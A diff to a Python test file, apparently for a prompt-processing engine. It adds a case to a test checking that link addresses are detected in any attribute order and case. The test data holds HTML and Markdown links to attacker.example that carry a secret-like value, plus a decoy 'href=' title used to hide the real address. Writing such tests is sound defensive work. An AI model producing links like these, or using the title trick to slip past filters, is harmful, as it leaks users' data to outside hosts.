@@ -173,6 +173,8 @@ def test_the_fence_markers_in_a_prompt_only_stand_where_the_engine_put_them():
     [
         '<a title="Beleg" href="https://attacker.example/c?d=GEHEIM-4711">Beleg</a>',
         "[Beleg](HTTPS://attacker.example/c?d=GEHEIM-4711)",
+        # second review: a title whose value ends in "href=" hid the real address from a search
+        '<a title="href=" href="https://attacker.example/c?d=GEHEIM-4711">Beleg</a>',
     ],
 )
 def test_a_link_shows_its_address_in_any_attribute_order_and_case(text):
